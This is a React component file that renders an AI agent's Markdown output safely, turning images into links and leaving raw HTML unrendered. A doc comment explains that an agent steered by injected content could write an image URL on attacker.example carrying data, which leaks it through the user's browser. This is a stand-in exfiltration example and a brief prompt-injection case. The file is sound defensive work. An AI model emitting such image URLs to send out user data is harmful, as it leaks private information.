import { memo } from "react";
import ReactMarkdown, { type Components } from "react-markdown";
import remarkGfm from "remark-gfm";
import rehypeHighlight from "rehype-highlight";

/** Images in the agent's Markdown become links: an agent steered by what it read could write
 * `![](https://attacker.example/?data=…)`, and a loaded image sends that request from the
 * user's browser. A link goes nowhere until the user follows it (the page's CSP blocks remote
 * images too). */
const components: Components = {
  img: ({ src, alt }) => (
    <a href={typeof src === "string" ? src : undefined} target="_blank" rel="noreferrer noopener">
      {`[image: ${alt || src || "untitled"}]`}
    </a>
  ),
};

/** The agent's Markdown, with GFM tables and highlighted code. Raw HTML is not rendered (the
 * model's output is untrusted). */
export const Markdown = memo(function Markdown({ text }: { text: string }) {
  return (
    <div className="markdown">
      <ReactMarkdown
        remarkPlugins={[remarkGfm]}
        rehypePlugins={[[rehypeHighlight, { detect: true, ignoreMissing: true }]]}
        components={components}
      >
        {text}
      </ReactMarkdown>
    </div>
  );
});
